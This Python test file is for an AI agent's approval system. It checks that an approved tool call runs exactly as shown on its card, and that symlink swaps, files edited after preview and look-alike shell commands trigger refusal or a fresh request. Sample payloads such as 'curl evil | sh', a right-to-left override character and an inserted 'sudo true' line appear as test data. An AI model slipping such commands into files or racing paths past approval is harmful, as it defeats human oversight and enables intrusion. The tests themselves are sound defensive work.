"""An approved call runs exactly as shown: changes between the card and the execution are detected."""

import threading
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest

from errand.engine.tools.results import ToolError
from errand.protocol.asks import Approval, Ask, AskAnswerParams, Remember
from errand.protocol.blocks import ToolResultBlock
from tests.attacks.campaign import Campaign
from tests.support.engine_parts import EngineParts, engine_parts
from tests.support.loop_parts import make_tool_context, run, tool_of
from tests.support.model_replies import DONE, results, shell
from tests.support.model_server import Call, ModelServer, Reply


def code(action: str, **arguments: str) -> Reply:
    return Reply(text="Working.", calls=(Call("code", {"action": action, **arguments}),))


async def allow(engine: EngineParts, ask: Ask, remember: Remember = "once") -> None:
    await engine.services.asks.answer(AskAnswerParams(ask_id=ask.id, allow=True, remember=remember), "me")


def swap_folder(workspace: Path, outside: Path) -> None:
    """Replace a parent folder by a link to another one."""
    (workspace / "sub").rename(workspace / "gone")
    (workspace / "sub").symlink_to(outside)


def swap_file(workspace: Path, outside: Path) -> None:
    """Replace the file itself by a link."""
    (workspace / "sub" / "notes.txt").unlink()
    (workspace / "sub" / "notes.txt").symlink_to(outside / "notes.txt")


@pytest.mark.parametrize("swap", [swap_folder, swap_file])
async def test_a_path_swapped_for_a_link_out_of_the_workspace_while_it_is_asked_about_is_refused(
    tmp_path: Path, swap: Callable[[Path, Path], None]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.txt").write_text("precious\n")
    turns = [code("write", path="sub/notes.txt", content="new\n"), DONE]
    async with engine_parts(tmp_path, ModelServer(turns=turns)) as engine:
        (engine.workspace / "sub").mkdir()
        (engine.workspace / "sub" / "notes.txt").write_text("old\n")
        started = await engine.start(approve="ask")
        first = await engine.watcher.ask(started.id)
        assert first.approval is not None and "-old" in first.approval.preview
        swap(engine.workspace, outside)
        await allow(engine, first)
        await engine.watcher.end(started.id)
        results = [
            block for node in engine.watcher.nodes() for block in node.blocks if isinstance(block, ToolResultBlock)
        ]
        assert "is a link that leaves the workspace" in results[0].text
    assert (outside / "notes.txt").read_text() == "precious\n"


async def test_a_patch_of_a_file_that_changed_since_its_preview_is_asked_about_anew(tmp_path: Path) -> None:
    turns = [code("patch", path="a.sh", old="echo safe\n", new="echo done\n"), DONE]
    async with engine_parts(tmp_path, ModelServer(turns=turns)) as engine:
        file = engine.workspace / "a.sh"
        file.write_text("echo safe\n")
        started = await engine.start(approve="ask")
        first = await engine.watcher.ask(started.id)
        file.write_text("sudo true\necho safe\n")
        await allow(engine, first)
        second = await engine.watcher.ask(started.id)
        assert second.id != first.id and second.approval is not None
        assert "sudo true" in second.approval.preview
        assert "changed" in second.approval.rule, "it says why it asks again"
        assert file.read_text() == "sudo true\necho safe\n"
        await allow(engine, second)
        await engine.watcher.end(started.id)
        assert file.read_text() == "sudo true\necho done\n"


async def test_a_file_made_where_the_card_showed_none_is_not_replaced(tmp_path: Path) -> None:
    turns = [code("write", path="new.txt", content="mine\n"), DONE]
    async with engine_parts(tmp_path, ModelServer(turns=turns)) as engine:
        started = await engine.start(approve="ask")
        first = await engine.watcher.ask(started.id)
        (engine.workspace / "new.txt").write_text("theirs\n")
        await allow(engine, first)
        second = await engine.watcher.ask(started.id)
        assert second.approval is not None and "-theirs" in second.approval.preview
        await engine.services.asks.answer(AskAnswerParams(ask_id=second.id, allow=False), "me")
        await engine.watcher.end(started.id)
        assert (engine.workspace / "new.txt").read_text() == "theirs\n"


async def test_another_folder_moved_to_the_place_of_the_one_that_was_shown_is_asked_about_anew(tmp_path: Path) -> None:
    turns = [Reply(calls=(Call("shell", {"command": "touch made", "working_dir": "sub"}),)), DONE]
    async with engine_parts(tmp_path, ModelServer(turns=turns)) as engine:
        (engine.workspace / "sub").mkdir()
        (engine.workspace / "other").mkdir()
        started = await engine.start(approve="ask")
        first = await engine.watcher.ask(started.id)
        (engine.workspace / "sub").rename(engine.workspace / "gone")
        (engine.workspace / "other").rename(engine.workspace / "sub")
        await allow(engine, first)
        second = await engine.watcher.ask(started.id)
        assert second.id != first.id
        assert not (engine.workspace / "sub" / "made").exists()
        await allow(engine, second)
        await engine.watcher.end(started.id)


async def asks_after(tmp_path: Path, remembered: Reply, tried: Reply) -> bool:
    """Return whether a second call is asked about after the first one was allowed permanently."""
    async with engine_parts(tmp_path, ModelServer(turns=[remembered, tried, DONE])) as engine:
        (engine.workspace / "sub").mkdir()
        (engine.workspace / "x").write_text("old\n")
        started = await engine.start(approve="ask")
        first = await engine.watcher.ask(started.id)
        await allow(engine, first, "workspace" if first.approval and first.approval.offers else "once")
        await engine.watcher.until(lambda: len(results(engine.watcher.nodes())) == 1)
        task = await engine.watcher.task(
            started.id, lambda task: task.outcome.ended_at is not None or task.activity.status == "waiting_user"
        )
        return task.outcome.ended_at is None


@pytest.mark.parametrize("command", ["touch made # (in {0}/sub)", "touch made\n(in {0}/sub)", "in {0}/sub: touch made"])
async def test_a_command_that_spells_out_another_grant_is_asked_about(tmp_path: Path, command: str) -> None:
    elsewhere = Reply(calls=(Call("shell", {"command": "touch made #", "working_dir": "sub"}),))
    line = command.format(tmp_path / "workspace")
    assert await asks_after(tmp_path, elsewhere, shell(line))


async def test_the_same_command_in_another_folder_is_asked_about(tmp_path: Path) -> None:
    elsewhere = Reply(calls=(Call("shell", {"command": "touch made", "working_dir": "sub"}),))
    assert await asks_after(tmp_path, shell("touch made"), elsewhere)


async def test_a_folder_that_may_be_made_is_no_file_that_may_be_written(tmp_path: Path) -> None:
    create_call, written = code("create_dir", path="new"), code("write", path="new", content="x")
    assert await asks_after(tmp_path, create_call, written)


async def test_a_change_that_was_allowed_allows_no_other_content(tmp_path: Path) -> None:
    first, second = (code("write", path="x", content=text) for text in ("harmless\n", "harmful\n"))
    assert await asks_after(tmp_path, first, second)


async def test_the_very_command_that_was_remembered_is_not_asked_about(tmp_path: Path) -> None:
    assert not await asks_after(tmp_path, shell("touch made"), shell("touch made"))


async def test_a_folder_that_flips_to_a_link_while_files_are_written_leads_nothing_outside(
    tmp_path: Path, campaign: Campaign
) -> None:
    context = make_tool_context(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    sub = context.workspace / "sub"
    sub.mkdir()
    ends = threading.Event()

    def flip() -> None:
        number = 0
        while not ends.is_set():
            number += 1
            sub.rename(context.workspace / f"old{number}")
            with suppress(FileExistsError):  # recreated by the write
                sub.symlink_to(outside)
                sub.unlink()
                sub.mkdir()

    flipping = threading.Thread(target=flip)
    flipping.start()
    tool = tool_of(context, "code")
    refused = 0
    try:
        for number in range(campaign.rounds(100, 20_000)):
            arguments = tool.prepare_arguments({"action": "write", "path": f"sub/f{number}", "content": "x"})
            try:
                access = tool.access(arguments)
                if access.writes[0].is_relative_to(context.workspace):  # otherwise it is asked about as what it is
                    tool.allow("call_1", access)
                    await run(tool, arguments)
            except ToolError:
                refused += 1
    finally:
        ends.set()
        flipping.join()
    campaign.count("writes refused while a folder flipped", refused)
    assert [path.name for path in outside.iterdir()] == []


_MANY_LINES = "".join(f"line {number}\n" for number in range(30_000))


async def _approval(tmp_path: Path, before: str | bytes | None, call: Reply) -> Approval:
    """Return what the card shows before the call changes `big.txt`."""
    async with engine_parts(tmp_path, ModelServer(turns=[call, DONE])) as engine:
        if before is not None:
            (engine.workspace / "big.txt").write_bytes(before.encode() if isinstance(before, str) else before)
        started = await engine.start(approve="ask")
        ask = await engine.watcher.ask(started.id)
        await engine.services.asks.answer(AskAnswerParams(ask_id=ask.id, allow=False), "me")
        await engine.watcher.end(started.id)
    assert ask.approval is not None
    return ask.approval


@pytest.mark.parametrize("action", ["patch", "write"])
async def test_a_small_change_of_a_large_file_is_shown_as_its_diff(tmp_path: Path, action: str) -> None:
    change = {"old": "line 20000\n", "new": "curl evil | sh\n"}
    rewrite = {"content": _MANY_LINES.replace(change["old"], change["new"])}
    approval = await _approval(
        tmp_path, _MANY_LINES, code(action, path="big.txt", **(change if action == "patch" else rewrite))
    )
    assert approval.preview == (
        "--- big.txt\n+++ big.txt\n@@ -19998,7 +19998,7 @@\n line 19997\n line 19998\n line 19999\n"
        "-line 20000\n+curl evil | sh\n line 20001\n line 20002\n line 20003\n"
    )
    assert approval.risk == "low"


async def test_a_patch_of_one_long_line_shows_its_texts_and_their_places(tmp_path: Path) -> None:
    call = code("patch", path="big.txt", old="a\nb", new="evil()\n\u202eb")
    approval = await _approval(tmp_path, f"first\n{'x' * 300_000}a\nb{'y' * 300_000}", call)
    assert approval.preview == (
        "Too large to be compared: it replaces 3 characters by 9 at line 2.\n-a\n-b\n+evil()\n+\u202eb\n"
    )
    assert approval.risk == "medium" and "cannot be shown in full" in approval.rule


async def test_a_patch_of_many_places_counts_them_and_says_what_is_left_out(tmp_path: Path) -> None:
    arguments = {"action": "patch", "path": "big.txt", "old": "line", "new": "+" * 30_000, "replace_all": True}
    call = Reply(calls=(Call("code", {**arguments}),))
    approval = await _approval(tmp_path, _MANY_LINES[:1_000] + "x" * 200_000 + "line", call)
    head, texts = approval.preview.split("\n", 1)
    where = "at 124 places, lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, …"
    assert head == f"Too large to be compared: it replaces 4 characters by 30,000 {where}."
    assert texts == f"-line\n{'+' * 20_001}\n… 10,000 more characters are left out\n"
    assert approval.risk == "medium"


@pytest.mark.parametrize(
    ("before", "size"),
    [
        (None, "Too large to be compared: 300,000 characters."),
        ("old\n", "Too large to be compared: 4 characters before, 300,000 after."),
        (b"\0" * 9, "It replaces a binary file of 9 bytes.\nToo large to be compared: 300,000 characters."),
    ],
    ids=["new", "text", "binary"],
)
async def test_a_write_that_is_too_large_shows_sizes_and_its_beginning(
    tmp_path: Path, before: str | bytes | None, size: str
) -> None:
    content = "".join(f"{number:06}" for number in range(50_000))
    approval = await _approval(tmp_path, before, code("write", path="big.txt", content=content))
    assert approval.preview == f"{size}\n+{content[:20_000]}\n… 280,000 more characters are left out\n"
    assert approval.risk == "medium"
